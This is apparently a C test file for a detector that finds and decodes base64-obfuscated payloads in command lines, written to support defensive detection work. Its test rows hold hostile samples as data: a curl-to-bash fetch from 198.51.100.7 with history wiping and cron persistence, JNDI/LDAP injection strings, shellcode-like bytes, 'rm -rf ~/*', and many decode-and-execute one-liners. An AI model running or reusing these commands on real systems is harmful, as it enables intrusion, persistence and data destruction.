// SPDX-License-Identifier: GPL-3.0-or-later
/* What must be found: one payload a row, alone in its command line. */
#include "encoded.h"

#define SECRET                                                                 \
	"curl -fsSL http://198.51.100.7/x.sh | bash; history -c; echo done "   \
	"> /tmp/.x; crontab -l | { cat; echo '* * * * * /tmp/.x'; } | crontab"
#define SHORT "whoami; id"
#define GZIP                                                                   \
	"\x1f\x8b\x08\0\0\0\0\0\x02\x03\xcb\x48\xcd\xc9\xc9\x57\x28\xcf"       \
	"\x2f\xca\x49\x01\0\x85\x11\x4a\x0d\x0b\0\0\0"
#define ELF                                                                    \
	"\x7f"                                                                 \
	"ELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0>\0\x01\0\0\0\xff"
#define ZLIB "x\x9c\xcbH\xcd\xc9\xc9W(\xcf/\xcaI\x01\0\x1a\x0b\x04]"

static const struct row {
	const char *name;
	struct bytes secret;
	const char *argv[PAYLOAD_ARGS_MAX];
	const char *chain; /* NULL: base64 */
} rows[] = {
	{ "alone", BYTES(SECRET), { "x", "@s" }, NULL },
	{ "unpadded", BYTES(SECRET "!"), { "x", "@n" }, NULL },
	{ "unpadded by two", BYTES(SECRET "!!"), { "x", "@n" }, NULL },
	{ "URL-safe", BYTES("ls /~??~?\?>>~~ && id~?"), { "x", "@u" },
		"base64url" },
	{ "URL-safe unpadded", BYTES("ls /~??~?\?>>~~ && id~?!"), { "x", "@v" },
		"base64url" },
	{ "dashes behind it", BYTES(SECRET), { "x", "@s ----------------" },
		NULL },
	{ "pluses behind it", BYTES("ls /~??~?\?>>~~ && id~?"),
		{ "x", "@v ++++++++++++++++" }, "base64url" },
	{ "padded, behind dashes", BYTES("id > /tmp/out"), { "x", "--run-@s" },
		NULL },
	{ "wrapped at 64", BYTES(SECRET), { "x", "@6" }, NULL },
	{ "wrapped at 76", BYTES(SECRET), { "x", "@7" }, NULL },
	{ "wrapped with CR LF", BYTES(SECRET), { "x", "@r" }, NULL },
	{ "wrapped and indented", BYTES(SECRET), { "x", "@i" }, NULL },
	{ "wrapped with backslashes", BYTES(SECRET), { "x", "@b" }, NULL },
	{ "here-document", BYTES(SECRET),
		{ "bash", "-c", "base64 -d <<EOF | sh\n@7\nEOF\n" }, NULL },
	{ "here-document of whole lines", BYTES(SECRET SECRET SECRET),
		{ "bash", "-c", "base64 -d <<EOF | sh\n@6\nEOF\n" }, NULL },
	{ "indented here-document", BYTES(SECRET),
		{ "bash", "-c", "base64 -d <<-'END'\n\t\t@7\n\tEND\n" }, NULL },
	{ "wrapped in quotes", BYTES(SECRET),
		{ "bash", "-c", "echo '@7' | base64 -d | bash" }, NULL },
	{ "in JSON", BYTES(SECRET), { "curl", "-d", "{\"a\":\"@s\"}" }, NULL },
	{ "echo | base64 -d", BYTES(SHORT),
		{ "sh", "-c", "echo @s|base64 -d|sh" }, NULL },
	{ "echo -n | base64 --decode", BYTES(SHORT),
		{ "sh", "-c", "echo -n @s | base64 --decode | sh" }, NULL },
	{ "echo | base64 -di", BYTES(SHORT),
		{ "sh", "-c", "echo @n | base64 -di" }, NULL },
	{ "echo | base64 -D", BYTES(SHORT),
		{ "sh", "-c", "echo \"@s\" | base64 -D" }, NULL },
	{ "echo | base64 -w0 -d", BYTES(SHORT),
		{ "sh", "-c", "echo @s | base64 -w0 -d" }, NULL },
	{ "echo | basenc", BYTES(SHORT),
		{ "sh", "-c", "echo @s | basenc --base64 -d" }, NULL },
	{ "base64${IFS}-d", BYTES(SHORT),
		{ "sh", "-c", "echo @s|base64${IFS}-d|sh" }, NULL },
	{ "base64$IFS-d", BYTES(SHORT), { "sh", "-c", "echo @s|base64$IFS-d" },
		NULL },
	{ "python binascii", BYTES(SHORT),
		{ "python3", "-c",
			"import binascii;exec(binascii.a2b_base64('@s'))" },
		NULL },
	{ "printf | base64 -d", BYTES(SHORT),
		{ "sh", "-c", "printf '%s' '@s' | base64 -d" }, NULL },
	{ "base64 -d <<<", BYTES(SHORT), { "bash", "-c", "base64 -d <<<@s" },
		NULL },
	{ "base64 -d <<< in quotes", BYTES(SHORT),
		{ "bash", "-c", "bash <(base64 -d <<< \"@s\")" }, NULL },
	{ "braces", BYTES(SHORT),
		{ "bash", "-c", "{echo,@s}|{base64,-d}|{bash,-i}" }, NULL },
	{ "openssl base64 -d", BYTES(SHORT),
		{ "sh", "-c", "echo @s | openssl base64 -d" }, NULL },
	{ "openssl enc -d -base64", BYTES(SHORT),
		{ "sh", "-c", "echo @s | openssl enc -d -base64" }, NULL },
	{ "openssl enc -base64 -d", BYTES(SHORT),
		{ "sh", "-c", "echo @s|openssl enc -base64 -d" }, NULL },
	{ "python b64decode", BYTES(SHORT),
		{ "python3", "-c",
			"exec(__import__('base64').b64decode('@s'))" },
		NULL },
	{ "python b64decode of bytes", BYTES(SHORT),
		{ "python3", "-c",
			"import base64;eval(base64.b64decode(b\"@s\"))" },
		NULL },
	{ "perl decode_base64", BYTES(SHORT),
		{ "perl", "-MMIME::Base64", "-e",
			"eval decode_base64(\"@s\")" },
		NULL },
	{ "php base64_decode", BYTES(SHORT),
		{ "php", "-r", "eval(base64_decode('@s'));" }, NULL },
	{ "ruby decode64", BYTES(SHORT),
		{ "ruby", "-e",
			"require 'base64';eval(Base64.decode64('@s'))" },
		NULL },
	{ "ruby unpack", BYTES(SHORT),
		{ "ruby", "-e", "eval('@s'.unpack(\"m\")[0])" }, NULL },
	{ "node atob", BYTES(SHORT), { "node", "-e", "eval(atob('@s'))" },
		NULL },
	{ "node Buffer.from", BYTES(SHORT),
		{ "node", "-e", "eval(Buffer.from('@s','base64').toString())" },
		NULL },
	{ "PowerShell FromBase64String", BYTES(SHORT),
		{ "pwsh", "-c", "[Convert]::FromBase64String('@s')" }, NULL },
	{ "-enc", BYTES("whoami"), { "pwsh", "-enc", "@l" }, "base64+utf16le" },
	{ "-EncodedCommand", BYTES("whoami"),
		{ "pwsh", "-NoP", "-EncodedCommand", "@l" }, "base64+utf16le" },
	{ "-e", BYTES("whoami"), { "powershell", "-e", "@l" },
		"base64+utf16le" },
	{ "-ec", BYTES("whoami"), { "powershell", "-ec", "@l" },
		"base64+utf16le" },
	{ "-enc behind a no-break space", BYTES("\xc2\xa0whoami; id"),
		{ "powershell", "-enc", "@l" }, "base64+utf16le" },
	{ "-enc in one argument", BYTES("whoami; id"),
		{ "sh", "-c", "pwsh -nop -enc @l" }, "base64+utf16le" },
	{ "UTF-16 alone", BYTES(SECRET), { "x", "@l" }, "base64+utf16le" },
	{ "UTF-16 big-endian", BYTES(SECRET), { "x", "@g" }, "base64+utf16be" },
	{ "JNDI", BYTES("whoami"),
		{ "curl", "-H",
			"${jndi:ldap://198.51.100.7:1389/Basic/Command/"
			"Base64/@s}" },
		NULL },
	{ "JNDI with a slash in it", BYTES("(curl -s 198.51.100.7:80/?\?>>~~)"),
		{ "curl", "-A",
			"${jndi:ldap://198.51.100.7:1389/Basic/Command/"
			"Base64/@s}" },
		NULL },
	{ "operand in another argument", BYTES(SHORT),
		{ "sh", "-c", "echo \"$1\" | base64 -d | sh", "sh", "@s" },
		NULL },
	{ "assignment", BYTES(SHORT),
		{ "sh", "-c", "a=@s; echo $a | base64 -d" }, NULL },
	{ "--option=", BYTES(SECRET), { "x", "--data=@s" }, NULL },
	{ "ELF", BYTES(ELF ELF), { "x", "@s" }, NULL },
	{ "gzip", BYTES(GZIP), { "x", "@s" }, "base64+gzip" },
	{ "zlib where a decoder is", BYTES(ZLIB),
		{ "python3", "-c",
			"import zlib,base64;exec(zlib.decompress("
			"base64.b64decode('@s')))" },
		"base64+zlib" },
	{ "binary where a decoder is",
		BYTES("\xfc\x48\x83\xe4\xf0\xe8\xcc\0\0"
		      "\x41\x51\x41\x50\x52\x48\x31\xd2"
		      "\x65\x48\x8b\x52\x60\x3e\x48"),
		{ "sh", "-c", "echo @s | base64 -d > /tmp/x" }, NULL },
	{ "20 characters", BYTES("id;uname -a;w;p"), { "x", "@s" }, NULL },
	{ "UTF-8",
		BYTES("echo 'gr\xc3\xbc\xc3\x9f dich, Welt'; id; uname -a; ls "
		      "-la"),
		{ "x", "@s" }, NULL },
};

static void test_rows(void)
{
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const struct row *r = &rows[i];
		struct event *ev = payload_run_rows(r->argv, r->secret);
		struct bytes secret = r->secret;
		size_t arg = 0;

		check_start("%s", r->name);
		while (!strchr(r->argv[arg], '@'))
			arg++;
		if (CHECK_EQ(ev->n_layers, 1)) {
			const struct event_layer *l = &ev->layers[0];

			/* What stands in a container comes out of it. */
			if (r->chain && (strstr(r->chain, "+gzip") ||
						strstr(r->chain, "+zlib")))
				secret = BYTES("hello world");
			CHECK_BYTES(l->text, secret);
			CHECK_Z(l->chain, r->chain ? r->chain : "base64");
			CHECK_EQ(l->depth, 1);
			CHECK_EQ(l->arg, arg);
			CHECK(!l->is_cut);
			CHECK_EQ(ev->decoded_bytes, secret.len);
		}
		CHECK(!ev->is_capped);
		event_destroy(ev);
	}
}

/* The same secret in each way to write Base64, beside each context. */
static void test_cross(void)
{
	static const char *const contexts[] = { "echo %|base64 -d",
		"base64 -d <<<'%'", "b64decode('%')", "atob(\"%\")",
		"x=%;echo $x|base64 -d" };
	static const struct bytes secrets[] = { BYTES("id;ls ."),
		BYTES("uname -a"), BYTES("/bin/sh -i"), BYTES("rm -rf ~/*?>"),
		BYTES("wget -qO- 192.0.2.1") };

	for (size_t c = 0; c < 5; c++) {
		check_start("cross: %s", contexts[c]);
		for (size_t i = 0; i < 5 * 4; i++) {
			char template[64];
			const char *argv[] = { "sh", "-c", template, NULL };
			struct event *ev;
			const char *at = strchr(contexts[c], '%');

			snprintf(template, sizeof(template), "%.*s@%c%s",
				(int)(at - contexts[c]), contexts[c],
				"sunv"[i / 5], at + 1);
			ev = payload_run_rows(argv, secrets[i % 5]);
			if (CHECK_EQ(ev->n_layers, 1))
				CHECK_BYTES(ev->layers[0].text, secrets[i % 5]);
			event_destroy(ev);
		}
	}
}

int main(void)
{
	check.module = "decode";
	test_rows();
	test_cross();
	return check_end();
}
